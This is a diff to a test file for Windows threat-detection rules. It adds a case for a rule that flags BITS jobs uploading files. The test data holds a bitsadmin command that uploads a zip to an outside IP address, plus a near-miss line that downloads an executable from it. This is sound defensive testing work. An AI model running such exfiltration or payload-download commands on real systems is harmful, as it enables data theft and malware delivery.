@@ -1316,7 +1316,7 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(sysmon1(16, `${S32}svchost.exe`, 'svchost.exe -k netsvcs', { ParentImage: `${S32}services.exe` }))).not.toContain(SVC);
   });
 
-  it('programs in user profiles running as SYSTEM, SYSTEM tokens assigned by user programs (4696), SilentCleanup started on demand; near misses are not', () => {
+  it('programs in user profiles running as SYSTEM, SYSTEM tokens assigned by user programs (4696), BITS uploads, SilentCleanup started on demand; near misses are not', () => {
     const USR = 'Program In A User Profile Running As SYSTEM';
     expectHit(USR, sysmon1(1, 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe', 'x.exe', { User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System', ParentImage: `${S32}svchost.exe` }), 'medium', 'privilege-escalation');
     expect(titlesOf(sysmon1(2, 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe', 'x.exe', { IntegrityLevel: 'Medium' }))).not.toContain(USR);
@@ -1326,6 +1326,9 @@ describe('built-in Windows rules', () => {
     expectHit(TOK, t4696(4, 'S-1-5-21-1-2-3-1104', 'C:\\Users\\bob\\Desktop\\tok.exe'), 'medium', 'privilege-escalation');
     expect(titlesOf(t4696(5, 'S-1-5-18', 'C:\\Users\\bob\\Desktop\\tok.exe'))).not.toContain(TOK);
     expect(titlesOf(t4696(6, 'S-1-5-21-1-2-3-1104', `${S32}svchost.exe`))).not.toContain(TOK);
+    const BITS = 'File Uploaded With A BITS Job';
+    expectHit(BITS, proc(9, `${S32}bitsadmin.exe`, 'bitsadmin /transfer j /upload /priority high http://203.0.113.5/u C:\\Users\\Public\\d.zip'), 'medium', 'exfiltration');
+    expect(titlesOf(proc(10, `${S32}bitsadmin.exe`, 'bitsadmin /transfer j /download /priority high http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe'))).not.toContain(BITS);
     const SC = 'Disk Cleanup Task Started On Demand (SilentCleanup)';
     expectHit(SC, proc(7, `${S32}schtasks.exe`, 'schtasks /run /tn \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup /I'), 'low', 'privilege-escalation');
     expect(titlesOf(proc(8, `${S32}schtasks.exe`, 'schtasks /query /tn \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup'))).not.toContain(SC);
